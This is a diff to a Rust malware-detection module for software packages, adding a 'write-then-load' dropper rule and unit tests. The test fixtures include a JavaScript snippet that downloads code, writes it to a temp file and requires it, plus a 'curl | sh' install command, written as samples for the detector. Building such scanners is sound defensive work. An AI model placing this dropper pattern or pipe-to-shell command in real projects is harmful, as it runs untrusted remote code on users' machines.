@@ -159,6 +159,15 @@ pub fn judge(pkg: &Package, hits: &[Hit]) -> (Verdict, Vec<String>) {
             reasons.insert(format!("{file}: decodes and runs an embedded payload"));
         }
     }
+    // A dropper: content fetched over the network written to a file that is then loaded.
+    for h in hits {
+        if h.rule.id == "write-then-load" && h.message.starts_with("writes downloaded") {
+            reasons.insert(format!(
+                "{}: writes downloaded code to a file and runs it ({}:{})",
+                h.file, h.file, h.line
+            ));
+        }
+    }
     let install_silent = hits
         .iter()
         .any(|h| h.install && h.rule.id == "silent-process" && h.severity >= Severity::High);
@@ -300,5 +309,17 @@ mod tests {
     fn install_hint_from_a_named_host_is_not_malicious() {
         let src = "const cp = require('child_process');\nif (!has('rustup')) console.log('run: curl -sSf https://sh.rustup.example | sh');\ncp.execFileSync('cargo', ['build']);";
         assert_ne!(verdict("index.js", src), Verdict::Malicious);
+    }
+
+    #[test]
+    fn downloaded_code_written_and_required_is_malicious() {
+        let src = "const https = require('https');\nconst fs = require('fs');\nconst p = require('path').join(require('os').tmpdir(), 'c.js');\nhttps.get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { fs.writeFileSync(p, s); require(p); }); });";
+        assert_eq!(verdict("lib/update.js", src), Verdict::Malicious);
+    }
+
+    #[test]
+    fn downloaded_data_written_and_another_file_required_is_not_malicious() {
+        let src = "const https = require('https');\nconst fs = require('fs');\nhttps.get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { fs.writeFileSync(cacheFile, s); require(configFile); }); });";
+        assert_ne!(verdict("lib/update.js", src), Verdict::Malicious);
     }
 }
